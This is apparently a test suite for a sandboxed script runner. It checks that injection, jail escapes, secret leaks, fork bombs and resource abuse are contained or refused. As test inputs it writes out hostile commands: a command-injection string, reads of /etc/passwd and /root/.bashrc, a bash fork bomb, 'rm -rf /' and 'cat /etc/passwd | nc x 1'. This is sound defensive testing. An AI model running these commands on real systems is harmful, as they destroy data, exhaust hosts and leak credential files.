// script.run in the bubblewrap jail: arguments in order, escapes that fail, timeouts, failures, secrets masked.
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assertValidChain, validateChain } from '../dsl';
import { scriptRunParams } from '../dsl/actions/script-run';
import { executeScript, registerScript } from '../activities/script-run';
import { encryptSecret } from '../config/secrets';
import { fetchHistoryText } from './history-text';
import { recordTestSecret } from './secrets-ledger';
import { startHarness, type Harness } from './helpers';
import { startRun } from '../control/client';
import hostile from './fixtures/hostile-values.json';
import { preparedRequest } from './prepared-request';
import { configureLogging } from '../config/log';

const MASTER_KEY = crypto.randomBytes(32).toString('base64');
const API_TOKEN = `tok-${crypto.randomUUID()}`;
let h: Harness;
let unsandboxed: Harness;
let refusing: Harness;
let limited: Harness;
const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'riposte-outside-'));
const runIds: string[] = [];
/** Everything this test process wrote to stdout and stderr, worker logs included. */
const logged: string[] = [];

function captureLogs(): void {
  // The worker's log (action failures and the SDK's warnings) goes to standard error here, as in `riposte worker`.
  configureLogging({ level: 'warn', format: 'json', destination: process.stderr });
  for (const stream of [process.stdout, process.stderr]) {
    const write = stream.write.bind(stream) as (...args: unknown[]) => boolean;
    stream.write = ((chunk: unknown, ...rest: unknown[]) => {
      logged.push(String(chunk));
      return write(chunk, ...rest);
    }) as typeof stream.write;
  }
}

const PY = '#!/usr/bin/env python3\r\nimport sys\r\nprint("py", "|".join(sys.argv[1:]))\r\n';
const SH = '#!/bin/bash\r\necho "sh $#: $1|$2|$3"\r\nexit 0\r\n';

beforeAll(async () => {
  captureLogs();
  recordTestSecret('script argument token', API_TOKEN);
  process.env.RIPOSTE_MASTER_KEY = MASTER_KEY;
  h = await startHarness();
  fs.writeFileSync(path.join(outside, 'report.py'), PY);
  fs.writeFileSync(path.join(outside, 'block.sh'), SH);
  registerScript(h.config.scripts.dir, 'report.py', path.join(outside, 'report.py'));
  registerScript(h.config.scripts.dir, 'block.sh', path.join(outside, 'block.sh'));
  unsandboxed = await startHarness((c) => {
    c.scripts.bwrap = '/nonexistent/bwrap';
    c.scripts.allowUnsandboxed = true;
  });
  refusing = await startHarness((c) => {
    c.scripts.bwrap = '/nonexistent/bwrap';
  });
  limited = await startHarness((c) => {
    c.scripts.maxProcesses = 12;
    c.scripts.memoryMb = 128;
    c.scripts.cpuSeconds = 1;
    c.scripts.jailMb = 8;
  });
});
afterAll(async () => {
  await h?.close();
  await unsandboxed?.close();
  await refusing?.close();
  await limited?.close();
});

async function run(harness: Harness, steps: object[], results: object[] = [{}]) {
  const workflowId = `script-${crypto.randomUUID()}`;
  runIds.push(workflowId);
  return { report: await harness.run({ name: 'script', steps }, results as never, { workflowId }), workflowId };
}

/** The ids of the live processes whose command line holds `marker`. */
function processesWith(marker: string): string[] {
  return fs
    .readdirSync('/proc')
    .filter((p) => /^\d+$/.test(p))
    .filter((p) => {
      try {
        return fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(marker);
      } catch {
        return false;
      }
    });
}

/** Waits until `check` holds, for at most 30 s (the assertion after it says what failed). */
async function until(check: () => boolean | Promise<boolean>): Promise<void> {
  for (let i = 0; i < 300 && !(await check()); i++) await new Promise((r) => setTimeout(r, 100));
}

function inline(text: string, args: unknown[] = [], extra: Record<string, unknown> = {}) {
  return { id: 'sh', action: 'script.run', with: { interpreter: 'bash', inline: text, args, ...extra } };
}

describe('script.run', () => {
  it('runs a registered Python and a registered Bash script written on Windows with literals, tokens and event properties in order', async () => {
    const { report } = await run(
      h,
      [
        { id: 'py', action: 'script.run', mode: 'each', with: { interpreter: 'python3', script: 'report.py', args: ['console.local', { property: 'src_ip' }, '{{result.user}}'] } },
        { id: 'sh', action: 'script.run', mode: 'each', with: { interpreter: 'bash', script: 'block.sh', args: [{ property: 'src_ip' }, { literal: 'fixed value' }, 24] } },
      ],
      [
        { src_ip: '10.0.0.1', user: 'alice' },
        { src_ip: '10.0.0.2', user: 'bob' },
      ],
    );
    expect(report.status).toBe('completed');
    expect(report.steps.py.outputs).toMatchObject([
      { exitCode: 0, stdout: 'py console.local|10.0.0.1|alice\n', stderr: '', sandboxed: true },
      { exitCode: 0, stdout: 'py console.local|10.0.0.2|bob\n', stderr: '', sandboxed: true },
    ]);
    expect(report.steps.sh.outputs).toMatchObject([{ stdout: 'sh 3: 10.0.0.1|fixed value|24\n' }, { stdout: 'sh 3: 10.0.0.2|fixed value|24\n' }]);
  });

  it('passes a shell command hidden in a result as one plain argument, so nothing is executed', async () => {
    const marker = path.join(outside, `pwned-${crypto.randomUUID()}`);
    const evil = `; touch ${marker}; $(touch ${marker}) \`touch ${marker}\``;
    const { report } = await run(h, [inline('printf "%s\\n" "$@"', [{ property: 'src_ip' }])], [{ src_ip: evil }]);
    expect(report.status).toBe('completed');
    expect((report.steps.sh.output as { stdout: string }).stdout).toBe(`${evil}\n`);
    expect(fs.existsSync(marker)).toBe(false);
  });

  it('runs a command given as one string, split into argv without a shell', async () => {
    const { report } = await run(h, [{ id: 'cmd', action: 'script.run', with: { command: "printf '%s|' 'a b' c", args: [{ property: 'ip' }] } }], [{ ip: '1.2.3.4' }]);
    expect(report.status).toBe('completed');
    expect((report.steps.cmd.output as { stdout: string }).stdout).toBe('a b|c|1.2.3.4|');
  });

  it('cannot write outside the jail: host paths, /usr and parent directories stay untouched', async () => {
    const target = path.join(outside, 'escaped.txt');
    const script = [
      `echo x > ${target} 2>/dev/null && echo wrote-host`,
      'echo x > /usr/escaped 2>/dev/null && echo wrote-usr',
      'echo x > ../../../escaped 2>/dev/null; ls ../../../',
      'echo x > /home/kept && echo wrote-home',
      'echo x > /tmp/kept && echo wrote-tmp',
    ].join('\n');
    const { report } = await run(h, [inline(script)]);
    const stdout = (report.steps.sh.output as { stdout: string }).stdout;
    expect(stdout).not.toContain('wrote-host');
    expect(stdout).not.toContain('wrote-usr');
    expect(stdout).toContain('wrote-home');
    expect(stdout).toContain('wrote-tmp');
    expect(fs.existsSync(target)).toBe(false);
    expect(fs.existsSync('/usr/escaped')).toBe(false);
    expect(fs.existsSync('/escaped')).toBe(false);
    // The jail is a tmpfs that goes with the program: nothing of the run is left on the host.
    expect(fs.existsSync(h.config.scripts.jailDir) ? fs.readdirSync(h.config.scripts.jailDir) : []).toEqual([]);
  });

  it('cannot read a file outside the jail, and sees none of the worker environment', async () => {
    const secretFile = path.join(outside, 'host-secret.txt');
    fs.writeFileSync(secretFile, 'host-only-content');
    process.env.RIPOSTE_TEST_LEAK = 'worker-env-value';
    const { report } = await run(h, [inline(`cat ${secretFile}; cat /etc/passwd; cat /root/.bashrc; env`)]);
    expect(report.status).toBe('completed');
    const output = report.steps.sh.output as { stdout: string; stderr: string };
    expect(output.stderr).toContain(`cat: ${secretFile}: No such file or directory`);
    expect(output.stderr).toContain('cat: /etc/passwd: No such file or directory');
    expect(output.stdout).not.toContain('host-only-content');
    expect(output.stdout).not.toContain('worker-env-value');
    expect(output.stdout.split('\n').filter(Boolean).sort()).toEqual(['HOME=/home', 'LANG=C.UTF-8', 'PATH=/usr/local/bin:/usr/bin:/bin', 'PWD=/', 'RIPOSTE_ATTEMPT=1', 'SHLVL=1', 'TMPDIR=/tmp', '_=/usr/bin/env']);
  });

  it('kills a script that outruns its timeout together with its whole process group', async () => {
    const marker = `6${Math.floor(Math.random() * 1e6)}`;
    const { report } = await run(h, [inline(`sleep ${marker} & sleep ${marker}`, [], { timeout: '1s' })]);
    expect(report.status).toBe('failed');
    expect(report.steps.sh.error).toMatch(/step "sh" \(script\.run\): the inline script ran longer than 1s and was killed with its process group/);
    expect(processesWith(marker)).toEqual([]);
  });

  it('kills a running script with its process group when the run is cancelled, and the run ends cancelled', async () => {
    const marker = `7${Math.floor(Math.random() * 1e6)}`;
    const chain = assertValidChain({ name: 'script', steps: [inline(`sleep ${marker} & sleep ${marker}`, [], { timeout: '60s' })] });
    const handle = await startRun(h.client, { chain, results: [{}], taskQueue: h.taskQueue, workflowId: `script-cancel-${crypto.randomUUID()}` });
    await until(() => processesWith(marker).length === 2);
    await handle.cancel();
    await until(() => processesWith(marker).length === 0);
    expect(processesWith(marker)).toEqual([]);
    const history = await handle.fetchHistory();
    expect(history.events!.filter((e) => e.activityTaskCancelRequestedEventAttributes)).toHaveLength(1);
    // The run itself was cancelled, so it ends cancelled rather than with a failed step.
    await expect(handle.result()).rejects.toMatchObject({ cause: { name: 'CancelledFailure' } });
    expect((await handle.describe()).status.name).toBe('CANCELLED');
  });

  it('fails the step on a non-zero exit without retrying it, naming the step, the exit code and stderr', async () => {
    const { report, workflowId } = await run(h, [{ ...inline('echo "firewall said no" >&2; exit 3'), retry: { maxAttempts: 5, initialInterval: '100ms' } }]);
    expect(report.status).toBe('failed');
    expect(report.steps.sh.error).toBe('step "sh" (script.run): the inline script exited with code 3: firewall said no');
    const history = await h.client.workflow.getHandle(workflowId).fetchHistory();
    const started = history.events!.filter((e) => e.activityTaskStartedEventAttributes);
    const scriptStarts = started.filter((e) => e.activityTaskStartedEventAttributes!.attempt === 1);
    expect(started.length).toBe(scriptStarts.length);
  });

  it('retries a failed script when the step says retryOnExit, telling the script its attempt number', async () => {
    const { report } = await run(h, [{ ...inline('echo "attempt $RIPOSTE_ATTEMPT"; [ "$RIPOSTE_ATTEMPT" -ge 2 ] || exit 1', [], { retryOnExit: true }), retry: { initialInterval: '100ms', maxAttempts: 3 } }]);
    expect(report.status).toBe('completed');
    expect((report.steps.sh.output as { stdout: string }).stdout).toBe('attempt 2\n');
  });

  it('masks an encrypted argument in the output while the script receives the value', async () => {
    const enc = encryptSecret(API_TOKEN, Buffer.from(MASTER_KEY, 'base64'));
    const { report } = await run(h, [inline('echo "token=$1 again=$2 len=${#1}"; echo "$1" >&2', [{ secret: enc }, enc])]);
    expect(report.status).toBe('completed');
    expect(report.steps.sh.output).toMatchObject({ stdout: `token=*** again=*** len=${API_TOKEN.length}\n`, stderr: '***\n' });
  });

  it('masks an encrypted argument in the failure message of a script that prints it and fails', async () => {
    const enc = encryptSecret(API_TOKEN, Buffer.from(MASTER_KEY, 'base64'));
    const { report } = await run(h, [inline('echo "rejected token $1" >&2; exit 2', [{ secret: enc }])]);
    expect(report.steps.sh.error).toBe('step "sh" (script.run): the inline script exited with code 2: rejected token ***');
  });

  it('caps stdout at the output limit', async () => {
    const { report } = await run(h, [inline('head -c 200000 /dev/zero | tr "\\0" a')]);
    const output = report.steps.sh.output as { stdout: string; truncated: boolean };
    expect(output.stdout.length).toBe(65_536);
    expect(output.truncated).toBe(true);
  });

  it('refuses to run without a working sandbox and says how to allow it', async () => {
    const { report } = await run(refusing, [inline('echo hi')]);
    expect(report.status).toBe('failed');
    expect(report.steps.sh.error).toContain('refusing to run a script without a sandbox: bubblewrap (bwrap) is not installed');
    expect(report.steps.sh.error).toContain('scripts.allowUnsandboxed: true');
  });

  it('runs unsandboxed only when configuration allows it, and says so in the output', async () => {
    const { report } = await run(unsandboxed, [inline('echo "$1 $HOME"', [{ property: 'ip' }])], [{ ip: '10.9.9.9' }]);
    expect(report.status).toBe('completed');
    const output = report.steps.sh.output as { stdout: string; sandboxed: boolean };
    expect(output.sandboxed).toBe(false);
    expect(output.stdout).toMatch(/^10\.9\.9\.9 .*\/run-[^/]+\/home\n$/);
  });

  it('fails with the field path when a result lacks the named property', async () => {
    const { report } = await run(h, [inline('echo', [{ property: 'src_ip' }])], [{ dst_ip: '1.1.1.1' }]);
    expect(report.steps.sh.error).toBe('step "sh" (script.run): with.args[0].property: the result has no field "src_ip"; fields: dst_ip');
  });

  it('keeps the test secret out of every log line the worker wrote', () => {
    expect(logged.join('')).toContain('rejected token ***');
    expect(logged.filter((line) => line.includes(API_TOKEN))).toEqual([]);
  });

  it('keeps the test secret out of every workflow history', async () => {
    const leaks: string[] = [];
    let seenPlainValues = 0;
    for (const id of runIds) {
      const history = await fetchHistoryText(h.client.workflow.getHandle(id));
      if (history.includes(API_TOKEN)) leaks.push(id);
      if (history.includes('idempotencyKey')) seenPlainValues++;
    }
    expect(runIds.length).toBeGreaterThan(5);
    // The search sees payload text (so it would see a leak), and finds none.
    expect(seenPlainValues).toBe(runIds.length);
    expect(leaks).toEqual([]);
  });
});

const corpus = Object.entries(hostile).filter(([k]) => k !== '$comment') as [string, string][];

describe('script.run with hostile result values', () => {
  /** Prints the argument count, then each argument in brackets. */
  const PRINT_ARGS = 'printf "%s\\n" "$#"; printf "[%s]" "$@"';
  const variants: [string, Record<string, unknown>, string][] = [
    ['a command string', { command: `/usr/bin/bash -c '${PRINT_ARGS}' argv0 {{result.v}}` }, 'with.command[4]'],
    ['an argv array', { command: ['/usr/bin/bash', '-c', PRINT_ARGS, 'argv0', '{{result.v}}'] }, 'with.command[4]'],
    ['a token argument', { interpreter: 'bash', inline: PRINT_ARGS, args: ['{{result.v}}'] }, 'with.args[0]'],
    ['a property argument', { interpreter: 'bash', inline: PRINT_ARGS, args: [{ property: 'v' }] }, 'with.args[0].property'],
  ];

  it('passes every corpus value as exactly one argument, refusing option-like values and NUL, in every argument form', async () => {
    for (const [name, value] of corpus) {
      for (const [form, params, field] of variants) {
        const request = preparedRequest<'script.run'>({ name: 'script', steps: [{ id: 'sh', action: 'script.run', with: params }] }, [{ v: value }], 0);
        const what = `${name} in ${form}`;
        const run = executeScript({ config: h.config }, { ...request, params: scriptRunParams.parse(request.params) });
        if (value.includes('\u0000')) {
          await expect(run, what).rejects.toMatchObject({ type: 'ActionInputError', message: expect.stringContaining(`${field}: the value holds a NUL character`) });
        } else if (value.startsWith('-')) {
          await expect(run, what).rejects.toMatchObject({ type: 'ActionInputError', nonRetryable: true, message: expect.stringContaining(`${field}: the value ${JSON.stringify(value)} comes from a token or result and starts with "-"`) });
        } else {
          const done = await run;
          expect({ exitCode: done.exitCode, stdout: done.stdout }, what).toEqual({ exitCode: 0, stdout: `1\n[${value}]` });
        }
      }
    }
  });

  it('refuses a result that would become an option in a command string, naming the word, and passes it when the step allows options', async () => {
    const marker = path.join(outside, `o-${crypto.randomBytes(4).toString('hex')}`);
    const step = (extra: Record<string, unknown> = {}) => ({ id: 'cmd', action: 'script.run', with: { command: '/usr/bin/printf [%s] {{result.x}}', ...extra } });
    const refused = await run(h, [step()], [{ x: `--output=${marker}` }]);
    expect(refused.report.status).toBe('failed');
    expect(refused.report.steps.cmd.error).toBe(
      `step "cmd" (script.run): with.command[2]: the value "--output=${marker}" comes from a token or result and starts with "-", so the program would read it as an option; riposte refuses it. Set "allowOptionArguments": true on the step if it passes options from data on purpose`,
    );
    const allowed = await run(h, [step({ allowOptionArguments: true })], [{ x: '-n a b' }]);
    expect(allowed.report.status).toBe('completed');
    expect((allowed.report.steps.cmd.output as { stdout: string }).stdout).toBe('[-n a b]');
    expect(fs.existsSync(marker)).toBe(false);
  });

  it('stops a busy loop at its CPU-time limit and says so', async () => {
    const { report } = await run(limited, [inline('while :; do :; done', [], { timeout: '30s' })]);
    expect(report.status).toBe('failed');
    expect(report.steps.sh.error).toBe('step "sh" (script.run): the inline script exited with code 152: it used up its CPU-time limit of 1 s (scripts.cpuSeconds)');
  });

  it('stops a memory hog at its memory limit and says so', async () => {
    const { report } = await run(limited, [{ id: 'py', action: 'script.run', with: { interpreter: 'python3', inline: 'x = bytearray(512 * 1024 * 1024)\nprint(len(x))' } }]);
    expect(report.status).toBe('failed');
    expect(report.steps.py.error).toMatch(/^step "py" \(script\.run\): the inline script exited with code 1: it reached its memory limit of 128 MiB per process \(scripts\.memoryMb\): .*MemoryError$/s);
  });

  it('refuses more processes than the limit and says so', async () => {
    const script = ['import os, sys, time', 'n = 0', 'try:', '    for i in range(100):', '        if os.fork() == 0:', '            time.sleep(5)', '            os._exit(0)', '        n += 1', 'except OSError as e:', '    print(f"started {n}: {e}", file=sys.stderr)', '    sys.exit(3)'].join('\n');
    const { report } = await run(limited, [{ id: 'py', action: 'script.run', with: { interpreter: 'python3', inline: script } }]);
    expect(report.status).toBe('failed');
    expect(report.steps.py.error).toMatch(/^step "py" \(script\.run\): the inline script exited with code 3: it reached its limit of 12 processes \(scripts\.maxProcesses\): started \d+: \[Errno 11\] Resource temporarily unavailable$/);
    const started = Number(/started (\d+)/.exec(report.steps.py.error ?? '')?.[1]);
    expect(started).toBeLessThan(12);
  });

  it('caps the jail\'s own files at their size limit', async () => {
    const { report } = await run(limited, [inline('head -c 20000000 /dev/zero > /tmp/big || exit 4')]);
    expect(report.status).toBe('failed');
    expect(report.steps.sh.error).toMatch(/^step "sh" \(script\.run\): the inline script exited with code 4: .*No space left on device$/);
  });

  it('contains a fork bomb within the process limit until its timeout kills it, leaving no process behind', async () => {
    const marker = `bomb-${crypto.randomUUID()}`;
    let most = 0;
    // The script's own processes: bubblewrap's two (outside the limit's count) carry the marker in their argv too.
    const scriptProcesses = () => processesWith(marker).filter((pid) => !/bwrap$/.test(fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')[0] ?? ''));
    const watch = setInterval(() => {
      try {
        most = Math.max(most, scriptProcesses().length);
      } catch {
        /* a process ended while being read */
      }
    }, 50);
    try {
      const { report } = await run(limited, [inline('b() { b | b & }; b; sleep 30', [marker], { timeout: '2s' })]);
      expect(report.status).toBe('failed');
      expect(report.steps.sh.error).toMatch(/^step "sh" \(script\.run\): the inline script ran longer than 2s and was killed with its process group/);
    } finally {
      clearInterval(watch);
    }
    expect(most).toBeGreaterThan(0);
    expect(most).toBeLessThanOrEqual(12);
    await until(() => processesWith(marker).length === 0);
    expect(processesWith(marker)).toEqual([]);
  });
});

describe('script.run validation', () => {
  const check = (w: Record<string, unknown>) => {
    const v = validateChain({ name: 'v', steps: [{ id: 's', action: 'script.run', with: w }] });
    return v.ok ? [] : v.problems.map((p) => `${p.path}: ${p.message}`);
  };

  it('refuses shell operators in a command string before the chain runs', () => {
    expect(check({ command: '/usr/bin/block 1.2.3.4; rm -rf /' })).toEqual([
      'steps[0].with.command: the command holds the shell operator ";"; riposte runs one program without a shell: split it into steps or put the logic in a registered script',
    ]);
    expect(check({ command: 'cat /etc/passwd | nc x 1' })[0]).toContain('shell operator "|"');
    expect(check({ command: 'a && b' })[0]).toContain('shell operator "&&"');
  });

  it('asks for exactly one of script, inline or command, and for an interpreter with a script', () => {
    expect(check({ interpreter: 'bash', script: 'a.sh', command: ['ls'] })).toEqual(['steps[0].with.command: give exactly one of "script" (a registered script), "inline" (script text) or "command"']);
    expect(check({ script: 'a.sh' })).toEqual(['steps[0].with.interpreter: name the interpreter that runs the script: bash, python3 or perl']);
    expect(check({ interpreter: 'bash', script: '../etc/passwd' })[0]).toContain('steps[0].with.script: name a script registered with `riposte script add NAME FILE`');
  });

  it('refuses "host" on a step that is not script.run', () => {
    const v = validateChain({ name: 'v', steps: [{ id: 's', action: 'events.log', host: 'edge-1', with: {} }] });
    expect(v.ok ? [] : v.problems).toEqual([{ path: 'steps[0].host', message: 'events.log runs on the chain\'s worker; "host" names a script executor and is only for script.run' }]);
  });

  it('refuses a literal secret where an encrypted value is expected', () => {
    expect(check({ interpreter: 'bash', inline: 'echo', args: [{ secret: 'hunter2' }] })[0]).toMatch(/^steps\[0\]\.with\.args\[0\]/);
  });
});
